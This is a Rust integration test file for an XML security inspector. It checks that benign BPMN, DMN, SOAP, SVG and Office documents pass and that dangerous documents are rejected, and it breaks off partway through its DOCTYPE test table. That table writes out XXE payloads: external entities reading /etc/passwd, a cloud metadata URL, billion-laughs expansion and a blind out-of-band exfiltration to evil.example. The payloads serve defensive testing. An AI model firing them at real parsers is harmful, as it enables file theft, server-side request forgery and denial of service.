//! Integration tests of the XML inspector (issue 3): every rule with a case
//! that triggers it and a near miss that passes, the limits at and one past
//! the limit, encodings, locations, and a benign corpus that must pass with
//! the default policy and with the bundled Camunda policy.
//!
//! Most tests are tables of `(name, input, expected)`, where `expected` is a
//! violation code or [`OK`]. A table reports every case that disagrees, not
//! just the first.

use input_guard::Violation;
use input_guard::inspect::xml::{LegacyEncoding, XmlInspector};
use input_guard::policy::{ForbiddenAttribute, Policy, SchemaLocations, XmlName, XmlPolicy};

// ---------------------------------------------------------------- helpers

/// The expected outcome of a document that passes.
const OK: &str = "ok";
const MALFORMED: &str = "xml-malformed";
const DOCTYPE: &str = "xml-doctype";
const ENTITY: &str = "xml-entity";
const XINCLUDE: &str = "xml-xinclude";
const XSLT: &str = "xml-xslt";
const SCHEMA: &str = "xml-schema-location";
const STYLESHEET: &str = "xml-stylesheet";
const FORBIDDEN_ELEMENT: &str = "xml-forbidden-element";
const FORBIDDEN_ATTRIBUTE: &str = "xml-forbidden-attribute";
const TOO_DEEP: &str = "xml-too-deep";
const TOO_MANY_ATTRIBUTES: &str = "xml-too-many-attributes";
const NAME_TOO_LONG: &str = "xml-name-too-long";
const VALUE_TOO_LARGE: &str = "xml-value-too-large";
const TOO_MANY_ELEMENTS: &str = "xml-too-many-elements";
const TOO_MANY_NAMESPACES: &str = "xml-too-many-namespaces";
const UNSUPPORTED: &str = "xml-unsupported-encoding";
const MISMATCH: &str = "xml-encoding-mismatch";

const BPMN_NS: &str = "http://www.omg.org/spec/BPMN/20100524/MODEL";
const CAMUNDA_NS: &str = "http://camunda.org/schema/1.0/bpmn";
const XI: &str = "http://www.w3.org/2001/XInclude";
const DECL16: &str = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>";

/// The default policy with some fields changed.
fn policy(change: impl FnOnce(&mut XmlPolicy)) -> XmlPolicy {
    let mut policy = XmlPolicy::default();
    change(&mut policy);
    policy
}

/// The `[xml]` section of the bundled Camunda policy.
fn camunda() -> XmlPolicy {
    Policy::load(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/policies/camunda.toml"
    ))
    .unwrap_or_else(|e| panic!("policies/camunda.toml: {e}"))
    .xml
}

fn attribute_rule(s: &str) -> ForbiddenAttribute {
    s.parse()
        .unwrap_or_else(|e| panic!("bad attribute rule {s:?}: {e}"))
}

fn xml_name(s: &str) -> XmlName {
    s.parse().unwrap_or_else(|e| panic!("bad XmlName {s}: {e}"))
}

fn inspect(policy: &XmlPolicy, bytes: &[u8], charset: Option<&str>) -> Result<(), Violation> {
    XmlInspector::new(policy.clone()).inspect(bytes, charset)
}

/// `"ok"` or the violation's code.
fn outcome(result: &Result<(), Violation>) -> &'static str {
    match result {
        Ok(()) => OK,
        Err(v) => v.code().as_str(),
    }
}

fn describe(result: &Result<(), Violation>) -> String {
    match result {
        Ok(()) => OK.to_owned(),
        Err(v) => v.to_string(),
    }
}

fn shorten(bytes: &[u8]) -> String {
    let text = String::from_utf8_lossy(&bytes[..bytes.len().min(160)]);
    format!("{text:?}{}", if bytes.len() > 160 { "..." } else { "" })
}

/// Runs `cases` (name, document, expected outcome) as UTF-8 documents
/// without a charset, and fails listing every case with another outcome.
#[track_caller]
fn check<N: AsRef<str>, D: AsRef<str>>(policy: &XmlPolicy, cases: &[(N, D, &str)]) {
    let cases: Vec<_> = cases
        .iter()
        .map(|(name, doc, expected)| (name, doc.as_ref().as_bytes().to_vec(), None, *expected))
        .collect();
    check_bytes(policy, &cases);
}

/// Like [`check`], for byte documents with a `charset` argument.
#[track_caller]
fn check_bytes<N: AsRef<str>>(policy: &XmlPolicy, cases: &[(N, Vec<u8>, Option<&str>, &str)]) {
    let inspector = XmlInspector::new(policy.clone());
    let failures: Vec<String> = cases
        .iter()
        .filter_map(|(name, input, charset, expected)| {
            let result = inspector.inspect(input, *charset);
            (outcome(&result) != *expected).then(|| {
                format!(
                    "  {}: expected {expected}, got {}\n    input {} charset {charset:?}",
                    name.as_ref(),
                    describe(&result),
                    shorten(input),
                )
            })
        })
        .collect();
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// Inspects `input` and returns the violation, failing unless its code is `code`.
#[track_caller]
fn rejected(policy: &XmlPolicy, input: &[u8], code: &str) -> Violation {
    match inspect(policy, input, None) {
        Ok(()) => panic!("expected {code}, but it passed: {}", shorten(input)),
        Err(v) => {
            assert_eq!(v.code().as_str(), code, "{v}\n  input {}", shorten(input));
            v
        }
    }
}

/// Asserts code, location and offset of the violation `input` raises.
#[track_caller]
fn rejected_at(policy: &XmlPolicy, input: &str, code: &str, location: &str, offset: usize) {
    let v = rejected(policy, input.as_bytes(), code);
    assert_eq!(
        (v.location(), v.offset()),
        (location, Some(offset)),
        "{v}\n  input {}",
        shorten(input.as_bytes())
    );
}

/// Byte offset of the first `needle` in `haystack`.
#[track_caller]
fn at(haystack: &str, needle: &str) -> usize {
    haystack
        .find(needle)
        .unwrap_or_else(|| panic!("{needle:?} not in {haystack:?}"))
}

fn utf16(text: &str, little_endian: bool, bom: bool) -> Vec<u8> {
    let bom = bom.then_some(0xFEFF);
    bom.into_iter()
        .chain(text.encode_utf16())
        .flat_map(|unit| {
            if little_endian {
                unit.to_le_bytes()
            } else {
                unit.to_be_bytes()
            }
        })
        .collect()
}

fn utf32(text: &str, little_endian: bool, bom: bool) -> Vec<u8> {
    let bom = bom.then_some('\u{FEFF}');
    bom.into_iter()
        .chain(text.chars())
        .flat_map(|c| {
            if little_endian {
                u32::from(c).to_le_bytes()
            } else {
                u32::from(c).to_be_bytes()
            }
        })
        .collect()
}

/// EBCDIC (code page 037) for the ASCII characters the tests use.
fn ebcdic(text: &str) -> Vec<u8> {
    text.bytes()
        .map(|b| match b {
            b'a'..=b'i' => 0x81 + (b - b'a'),
            b'j'..=b'r' => 0x91 + (b - b'j'),
            b's'..=b'z' => 0xA2 + (b - b's'),
            b'A'..=b'I' => 0xC1 + (b - b'A'),
            b'J'..=b'R' => 0xD1 + (b - b'J'),
            b'S'..=b'Z' => 0xE2 + (b - b'S'),
            b'0'..=b'9' => 0xF0 + (b - b'0'),
            b' ' => 0x40,
            b'.' => 0x4B,
            b'<' => 0x4C,
            b'&' => 0x50,
            b'!' => 0x5A,
            b';' => 0x5E,
            b'-' => 0x60,
            b'/' => 0x61,
            b'>' => 0x6E,
            b'?' => 0x6F,
            b':' => 0x7A,
            b'\'' => 0x7D,
            b'=' => 0x7E,
            b'"' => 0x7F,
            b'[' => 0xBA,
            b']' => 0xBB,
            other => panic!("no EBCDIC for {:?}", other as char),
        })
        .collect()
}

/// `depth` nested `<a>` elements, closed.
fn nested(depth: usize) -> String {
    format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth))
}

/// An element `<r>` with `n` attributes `a0="0" a1="1" ...`.
fn with_attributes(n: usize) -> String {
    let attrs: String = (0..n).map(|i| format!(" a{i}=\"{i}\"")).collect();
    format!("<r{attrs}/>")
}

/// An element `<r>` with `n` namespace declarations.
fn with_namespaces(n: usize) -> String {
    let decls: String = (0..n)
        .map(|i| format!(" xmlns:p{i}=\"urn:example:{i}\""))
        .collect();
    format!("<r{decls}/>")
}

/// The Camunda Modeler process with `extra` spliced into the process.
fn bpmn_with(extra: &str) -> String {
    BPMN.replace("<!--EXTRA-->", extra)
}

// ---------------------------------------------------------------- corpus

/// A process as Camunda Modeler saves it; `<!--EXTRA-->` marks where tests
/// splice in more elements.
const BPMN: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" xmlns:di="http://www.omg.org/spec/DD/20100524/DI" xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:modeler="http://camunda.org/schema/modeler/1.0" id="Definitions_0fr9mxs" targetNamespace="http://bpmn.io/schema/bpmn" exporter="Camunda Modeler" exporterVersion="5.17.0" modeler:executionPlatform="Camunda Platform" modeler:executionPlatformVersion="7.20.0">
  <bpmn:process id="invoice" name="Invoice &amp; approval" isExecutable="true" camunda:historyTimeToLive="P180D">
    <bpmn:documentation>Approves invoices &lt; 10.000 € automatically.</bpmn:documentation>
    <bpmn:startEvent id="StartEvent_1" name="Invoice received" camunda:formKey="embedded:app:forms/start.html">
      <bpmn:outgoing>Flow_1</bpmn:outgoing>
    </bpmn:startEvent>
    <bpmn:userTask id="approve" name="Approve&#10;invoice" camunda:assignee="${approver}" camunda:candidateGroups="accounting" camunda:dueDate="${dateTime().plusDays(2).toDate()}">
      <bpmn:extensionElements>
        <camunda:inputOutput>
          <camunda:inputParameter name="amount">${invoice.amount}</camunda:inputParameter>
          <camunda:outputParameter name="approved">${approved}</camunda:outputParameter>
        </camunda:inputOutput>
        <camunda:taskListener class="com.acme.NotifyListener" event="create" />
        <camunda:properties>
          <camunda:property name="priority" value="high" />
        </camunda:properties>
      </bpmn:extensionElements>
      <bpmn:incoming>Flow_1</bpmn:incoming>
      <bpmn:outgoing>Flow_2</bpmn:outgoing>
    </bpmn:userTask>
    <bpmn:exclusiveGateway id="Gateway_1" name="Approved?" default="Flow_no">
      <bpmn:incoming>Flow_2</bpmn:incoming>
      <bpmn:outgoing>Flow_yes</bpmn:outgoing>
      <bpmn:outgoing>Flow_no</bpmn:outgoing>
    </bpmn:exclusiveGateway>
    <bpmn:sequenceFlow id="Flow_1" sourceRef="StartEvent_1" targetRef="approve" />
    <bpmn:sequenceFlow id="Flow_2" sourceRef="approve" targetRef="Gateway_1" />
    <bpmn:sequenceFlow id="Flow_yes" name="yes" sourceRef="Gateway_1" targetRef="pay">
      <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${approved &amp;&amp; amount &lt;= 10000}</bpmn:conditionExpression>
    </bpmn:sequenceFlow>
    <bpmn:sequenceFlow id="Flow_no" name="no" sourceRef="Gateway_1" targetRef="EndEvent_2" />
    <bpmn:serviceTask id="pay" name="Pay" camunda:type="external" camunda:topic="payment">
      <bpmn:incoming>Flow_yes</bpmn:incoming>
      <bpmn:outgoing>Flow_3</bpmn:outgoing>
    </bpmn:serviceTask>
    <bpmn:sequenceFlow id="Flow_3" sourceRef="pay" targetRef="EndEvent_1" />
    <bpmn:endEvent id="EndEvent_1" name="Paid"><bpmn:incoming>Flow_3</bpmn:incoming></bpmn:endEvent>
    <bpmn:endEvent id="EndEvent_2" name="Rejected"><bpmn:incoming>Flow_no</bpmn:incoming></bpmn:endEvent>
    <!--EXTRA-->
  </bpmn:process>
  <bpmndi:BPMNDiagram id="BPMNDiagram_1">
    <bpmndi:BPMNPlane id="BPMNPlane_1" bpmnElement="invoice">
      <bpmndi:BPMNShape id="_BPMNShape_StartEvent_2" bpmnElement="StartEvent_1">
        <dc:Bounds x="179" y="99" width="36" height="36" />
        <bpmndi:BPMNLabel><dc:Bounds x="157" y="142" width="81" height="14" /></bpmndi:BPMNLabel>
      </bpmndi:BPMNShape>
      <bpmndi:BPMNShape id="Activity_approve_di" bpmnElement="approve">
        <dc:Bounds x="270" y="77" width="100" height="80" />
      </bpmndi:BPMNShape>
      <bpmndi:BPMNShape id="Gateway_1_di" bpmnElement="Gateway_1" isMarkerVisible="true">
        <dc:Bounds x="425" y="92" width="50" height="50" />
      </bpmndi:BPMNShape>
      <bpmndi:BPMNEdge id="Flow_1_di" bpmnElement="Flow_1">
        <di:waypoint x="215" y="117" />
        <di:waypoint x="270" y="117" />
      </bpmndi:BPMNEdge>
    </bpmndi:BPMNPlane>
  </bpmndi:BPMNDiagram>
</bpmn:definitions>
"#;

/// The OMG style: default namespace and a relative schema location.
const BPMN_OMG: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"
             xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
             xsi:schemaLocation="http://www.omg.org/spec/BPMN/20100524/MODEL BPMN20.xsd"
             id="defs" targetNamespace="http://example.org/bpmn"
             typeLanguage="http://www.w3.org/2001/XMLSchema"
             expressionLanguage="http://www.w3.org/1999/XPath">
  <process id="p" isExecutable="false">
    <startEvent id="s"/>
    <task id="t" name="Check"/>
    <endEvent id="e"/>
    <sequenceFlow id="f1" sourceRef="s" targetRef="t"/>
    <sequenceFlow id="f2" sourceRef="t" targetRef="e"/>
  </process>
</definitions>
"#;

const DMN: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" xmlns:dmndi="https://www.omg.org/spec/DMN/20191111/DMNDI/" xmlns:dc="http://www.omg.org/spec/DMN/20180521/DC/" xmlns:camunda="http://camunda.org/schema/1.0/dmn" xmlns:modeler="http://camunda.org/schema/modeler/1.0" id="dish" name="Dish" namespace="http://camunda.org/schema/1.0/dmn" exporter="Camunda Modeler" exporterVersion="5.17.0" modeler:executionPlatform="Camunda Platform">
  <decision id="decision" name="Dish">
    <decisionTable id="DecisionTable_1" hitPolicy="UNIQUE">
      <input id="Input_1" label="Season" camunda:inputVariable="season">
        <inputExpression id="InputExpression_1" typeRef="string"><text>season</text></inputExpression>
      </input>
      <input id="Input_2" label="Guests">
        <inputExpression id="InputExpression_2" typeRef="integer"><text>guestCount</text></inputExpression>
      </input>
      <output id="Output_1" label="Dish" name="dish" typeRef="string" />
      <rule id="Rule_1">
        <description>Winter &amp; few guests</description>
        <inputEntry id="UnaryTests_1"><text>"Winter"</text></inputEntry>
        <inputEntry id="UnaryTests_2"><text>&lt;= 8</text></inputEntry>
        <outputEntry id="LiteralExpression_1"><text>&quot;Roastbeef&quot;</text></outputEntry>
      </rule>
      <rule id="Rule_2">
        <inputEntry id="UnaryTests_3"><text>not("Winter")</text></inputEntry>
        <inputEntry id="UnaryTests_4"><text>[5..8]</text></inputEntry>
        <outputEntry id="LiteralExpression_2"><text>"Salad"</text></outputEntry>
      </rule>
    </decisionTable>
  </decision>
  <dmndi:DMNDI>
    <dmndi:DMNDiagram id="DMNDiagram_1">
      <dmndi:DMNShape id="DMNShape_1" dmnElementRef="decision">
        <dc:Bounds height="80" width="180" x="160" y="100" />
      </dmndi:DMNShape>
    </dmndi:DMNDiagram>
  </dmndi:DMNDI>
</definitions>
"#;

const SOAP: &str = r#"<?xml version="1.0" encoding="utf-8"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema" soap:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/">
  <soap:Header>
    <wsse:Security xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd" soap:mustUnderstand="1">
      <wsse:UsernameToken><wsse:Username>alice</wsse:Username></wsse:UsernameToken>
    </wsse:Security>
  </soap:Header>
  <soap:Body>
    <m:GetStockPrice xmlns:m="http://www.example.org/stock">
      <m:StockName xsi:type="xsd:string">IBM</m:StockName>
      <m:Note xsi:nil="true"/>
    </m:GetStockPrice>
  </soap:Body>
</soap:Envelope>
"#;

const SVG: &str = r##"<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Generator: hand -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" version="1.1" width="120" height="120" viewBox="0 0 120 120">
  <title>Logo &amp; name</title>
  <defs>
    <linearGradient id="g" x1="0" y1="0" x2="1" y2="1">
      <stop offset="0" stop-color="#ffffff"/>
      <stop offset="1" stop-color="#000000"/>
    </linearGradient>
    <path id="p" d="M10 10 L110 10 L60 110 Z"/>
  </defs>
  <style type="text/css"><![CDATA[ circle { fill: url(#g); } a > text { font: 12px sans-serif; } ]]></style>
  <circle cx="60" cy="60" r="50"/>
  <use xlink:href="#p" x="0" y="0"/>
  <a xlink:href="https://example.com/" target="_blank"><text x="10" y="115">Example &#x2192; &#8364;</text></a>
</svg>
"##;

const ATOM: &str = r#"<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en">
  <title type="text">Example Feed</title>
  <subtitle type="html">A &lt;em&gt;lot&lt;/em&gt; of effort went into making this effortless</subtitle>
  <link href="http://example.org/" rel="alternate"/>
  <link href="http://example.org/feed.atom" rel="self" type="application/atom+xml"/>
  <updated>2003-12-13T18:30:02Z</updated>
  <author><name>John Doe</name><email>johndoe@example.com</email></author>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <entry>
    <title>Atom-Powered Robots Run Amok</title>
    <link href="http://example.org/2003/12/13/atom03"/>
    <id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>
    <updated>2003-12-13T18:30:02Z</updated>
    <summary type="html">&lt;p&gt;Some text &amp;amp; more.&lt;/p&gt;</summary>
    <content type="xhtml" xml:base="http://example.org/2003/"><div xmlns="http://www.w3.org/1999/xhtml"><p>Hello <em>world</em> &#169; 2003</p></div></content>
  </entry>
</feed>
"#;

const POM: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
  xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">
  <modelVersion>4.0.0</modelVersion>
  <groupId>com.acme</groupId>
  <artifactId>invoice-process</artifactId>
  <version>1.0.0-SNAPSHOT</version>
  <packaging>jar</packaging>
  <properties>
    <project.build.sourceEncoding>UTF-8</project.build.sourceEncoding>
    <camunda.version>7.20.0</camunda.version>
  </properties>
  <dependencyManagement>
    <dependencies>
      <dependency>
        <groupId>org.camunda.bpm</groupId>
        <artifactId>camunda-bom</artifactId>
        <version>${camunda.version}</version>
        <scope>import</scope>
        <type>pom</type>
      </dependency>
    </dependencies>
  </dependencyManagement>
  <build>
    <plugins>
      <plugin>
        <artifactId>maven-compiler-plugin</artifactId>
        <configuration><release>17</release></configuration>
      </plugin>
    </plugins>
  </build>
</project>
"#;

const CONTENT_TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>"#;

const WORD_DOCUMENT: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:wpc="http://schemas.microsoft.com/office/word/2010/wordprocessingCanvas" xmlns:cx="http://schemas.microsoft.com/office/drawing/2014/chartex" xmlns:cx1="http://schemas.microsoft.com/office/drawing/2015/9/8/chartex" xmlns:aink="http://schemas.microsoft.com/office/drawing/2016/ink" xmlns:am3d="http://schemas.microsoft.com/office/drawing/2017/model3d" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:oel="http://schemas.microsoft.com/office/2019/extlst" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:wp14="http://schemas.microsoft.com/office/word/2010/wordprocessingDrawing" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:w10="urn:schemas-microsoft-com:office:word" xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml" xmlns:w16cex="http://schemas.microsoft.com/office/word/2018/wordml/cex" xmlns:w16cid="http://schemas.microsoft.com/office/word/2016/wordml/cid" xmlns:w16="http://schemas.microsoft.com/office/word/2018/wordml" xmlns:w16sdtdh="http://schemas.microsoft.com/office/word/2020/wordml/sdtdatahash" xmlns:w16se="http://schemas.microsoft.com/office/word/2015/wordml/symex" xmlns:wpg="http://schemas.microsoft.com/office/word/2010/wordprocessingGroup" xmlns:wpi="http://schemas.microsoft.com/office/word/2010/wordprocessingInk" xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml" xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="w14 w15 w16se w16cid w16 w16cex w16sdtdh wp14"><w:body><w:p w14:paraId="1D3A5B7C" w14:textId="77777777" w:rsidR="00A1B2C3" w:rsidRDefault="00A1B2C3"><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:rPr><w:lang w:val="de-DE"/></w:rPr><w:t xml:space="preserve">Rechnung &amp; Freigabe </w:t></w:r></w:p><mc:AlternateContent><mc:Choice Requires="wps"><w:p/></mc:Choice><mc:Fallback><w:p/></mc:Fallback></mc:AlternateContent><w:sectPr w:rsidR="00A1B2C3"><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1417" w:right="1417" w:bottom="1134" w:left="1417" w:header="708" w:footer="708" w:gutter="0"/></w:sectPr></w:body></w:document>"#;

/// Every benign document, by name.
fn corpus() -> Vec<(String, Vec<u8>)> {
    let mut docs: Vec<(String, Vec<u8>)> = [
        ("BPMN (Camunda Modeler)", BPMN),
        ("BPMN (OMG, relative schema location)", BPMN_OMG),
        ("DMN 1.3", DMN),
        ("SOAP 1.1", SOAP),
        ("SVG with xlink", SVG),
        ("Atom feed", ATOM),
        ("Maven POM", POM),
        ("[Content_Types].xml", CONTENT_TYPES),
        ("word/document.xml", WORD_DOCUMENT),
    ]
    .into_iter()
    .map(|(name, doc)| (name.to_owned(), doc.as_bytes().to_vec()))
    .collect();
    docs.push(("60 attributes".into(), with_attributes(60).into_bytes()));
    docs.push(("depth 50".into(), nested(50).into_bytes()));
    let bom = [b"\xEF\xBB\xBF", BPMN.as_bytes()].concat();
    docs.push(("BPMN with a UTF-8 BOM".into(), bom));
    let bpmn16 = BPMN.replace(r#"encoding="UTF-8""#, r#"encoding="UTF-16""#);
    docs.push(("BPMN, UTF-16LE, BOM".into(), utf16(&bpmn16, true, true)));
    docs.push((
        "BPMN, UTF-16BE, no BOM".into(),
        utf16(&bpmn16, false, false),
    ));
    let dmn16 = DMN.replace(r#"encoding="UTF-8""#, r#"encoding="UTF-16""#);
    docs.push(("DMN, UTF-16BE, BOM".into(), utf16(&dmn16, false, true)));
    docs
}

// ---------------------------------------------------------------- benign corpus

#[test]
fn benign_corpus_passes_the_default_and_the_camunda_policy() {
    let corpus = corpus();
    let cases: Vec<_> = corpus
        .iter()
        .map(|(name, doc)| (name, doc.clone(), None, OK))
        .collect();
    check_bytes(&XmlPolicy::default(), &cases);
    check_bytes(&camunda(), &cases);
}

#[test]
fn camunda_policy_rejects_script_deployments() {
    let camunda = camunda();
    let cases = [
        (
            bpmn_with(
                r#"<bpmn:scriptTask id="s" scriptFormat="groovy"><bpmn:script>println 'hi'</bpmn:script></bpmn:scriptTask>"#,
            ),
            FORBIDDEN_ELEMENT,
            "/definitions/process/scriptTask",
        ),
        (
            bpmn_with(
                r#"<bpmn:task id="t"><bpmn:extensionElements><camunda:executionListener event="start"><camunda:script scriptFormat="javascript">1</camunda:script></camunda:executionListener></bpmn:extensionElements></bpmn:task>"#,
            ),
            FORBIDDEN_ELEMENT,
            "/definitions/process/task/extensionElements/executionListener/script",
        ),
        (
            bpmn_with(r#"<bpmn:serviceTask id="r" camunda:resource="deployment://evil.groovy"/>"#),
            FORBIDDEN_ATTRIBUTE,
            "/definitions/process/serviceTask/@camunda:resource",
        ),
        (
            bpmn_with(
                r#"<bpmn:sequenceFlow id="c" sourceRef="a" targetRef="b"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" language="groovy">true</bpmn:conditionExpression></bpmn:sequenceFlow>"#,
            ),
            FORBIDDEN_ATTRIBUTE,
            "/definitions/process/sequenceFlow/conditionExpression/@language",
        ),
    ];
    for (doc, code, location) in &cases {
        let v = rejected(&camunda, doc.as_bytes(), code);
        assert_eq!(v.location(), *location, "{v}");
        // Scripts are the Camunda policy's choice, not a rule.
        let default = inspect(&XmlPolicy::default(), doc.as_bytes(), None);
        assert!(default.is_ok(), "{location}: {}", describe(&default));
    }
    // Near miss: Java delegates and expressions are no scripts.
    let delegates = bpmn_with(
        r#"<bpmn:serviceTask id="j" camunda:class="com.acme.Pay" camunda:asyncBefore="true"><bpmn:extensionElements><camunda:executionListener delegateExpression="${audit}" event="end"/></bpmn:extensionElements></bpmn:serviceTask>"#,
    );
    let result = inspect(&camunda, delegates.as_bytes(), None);
    assert!(result.is_ok(), "{}", describe(&result));
}

// ---------------------------------------------------------------- DOCTYPE

fn billion_laughs() -> String {
    let mut dtd = String::from("<!ENTITY lol \"lol\">\n");
    for i in 1..=9 {
        let previous = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        let refs = format!("&{previous};").repeat(10);
        dtd.push_str(&format!("<!ENTITY lol{i} \"{refs}\">\n"));
    }
    format!("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n{dtd}]>\n<lolz>&lol9;</lolz>")
}

fn quadratic_blowup() -> String {
    let entity = "B".repeat(10_000);
    let refs = "&a;".repeat(1000);
    format!("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"{entity}\">]><r>{refs}</r>")
}

#[test]
fn doctype_is_always_rejected() {
    let long_comment = format!(
        "<!--{}--><!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
        " pad ".repeat(20_000)
    );
    let laughs = billion_laughs();
    let quadratic = quadratic_blowup();
    let cases: &[(&str, &str, &str)] = &[
        ("at the start", "<!DOCTYPE r><r/>", DOCTYPE),
        (
            "after the declaration",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE r><r/>",
            DOCTYPE,
        ),
        (
            "after comments and PIs",
            "<!-- a --><?pi x?>\n<!-- b --><!DOCTYPE r><r/>",
            DOCTYPE,
        ),
        ("after a long comment", &long_comment, DOCTYPE),
        ("after the root", "<r/><!DOCTYPE r>", DOCTYPE),
        (
            "after the root, with a subset",
            "<r/><!-- c --><!DOCTYPE r [<!ENTITY x 'y'>]>",
            DOCTYPE,
        ),
        ("inside the root", "<r><!DOCTYPE r></r>", DOCTYPE),
        (
            "deep inside",
            "<r><a><b>text<!DOCTYPE r SYSTEM 'x.dtd'></b></a></r>",
            DOCTYPE,
        ),
        ("inside nothing", "<!DOCTYPE r>", DOCTYPE),
        ("empty internal subset", "<!DOCTYPE r []>", DOCTYPE),
        ("lower case", "<!doctype r><r/>", DOCTYPE),
        ("mixed case", "<!DocType r><r/>", DOCTYPE),
        (
            "mixed case, subset",
            "<!dOcTyPe r [<!ENTITY x 'y'>]><r>&x;</r>",
            DOCTYPE,
        ),
        ("no white space", "<!DOCTYPEr[]><r/>", DOCTYPE),
        (
            "no white space, entity",
            "<!DOCTYPE r[<!ENTITY x SYSTEM'file:///etc/passwd'>]><r/>",
            DOCTYPE,
        ),
        (
            "CR LF and tab",
            "<!DOCTYPE\r\nr\tSYSTEM\n\"http://evil.example/x.dtd\"\r\n><r/>",
            DOCTYPE,
        ),
        (
            "CR LF in the subset",
            "<!DOCTYPE r [\r\n\t<!ENTITY\r\n\tx\tSYSTEM\r\n'file:///x'>\r\n]><r/>",
            DOCTYPE,
        ),
        (
            "two DOCTYPEs",
            "<!DOCTYPE r><!DOCTYPE r [<!ENTITY x 'y'>]><r/>",
            DOCTYPE,
        ),
        ("billion laughs", &laughs, DOCTYPE),
        ("quadratic blowup", &quadratic, DOCTYPE),
        (
            "entity in an attribute",
            "<!DOCTYPE r [<!ENTITY x 'y'>]><r a='&x;'/>",
            DOCTYPE,
        ),
        (
            "external SYSTEM file",
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            DOCTYPE,
        ),
        (
            "external SYSTEM http",
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><r>&x;</r>",
            DOCTYPE,
        ),
        (
            "external SYSTEM netdoc",
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"netdoc:/etc/passwd\">]><r>&x;</r>",
            DOCTYPE,
        ),
        (
            "external DTD, jar",
            "<!DOCTYPE r SYSTEM \"jar:http://evil.example/x.jar!/x.dtd\"><r/>",
            DOCTYPE,
        ),
        (
            "external DTD, no entity used",
            "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
            DOCTYPE,
        ),
        (
            "PUBLIC",
            "<!DOCTYPE r PUBLIC \"-//EVIL//DTD X//EN\" \"http://evil.example/x.dtd\"><r/>",
            DOCTYPE,
        ),
        (
            "parameter entity",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><r/>",
            DOCTYPE,
        ),
        (
            "blind out-of-band parameter entities",
            "<!DOCTYPE r [<!ENTITY % file SYSTEM \"file:///etc/hostname\"><!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://evil.example/?x=%file;'>\">%eval;%exfil;]><r/>",
            DOCTYPE,
        ),
        (
            "local DTD, error based",
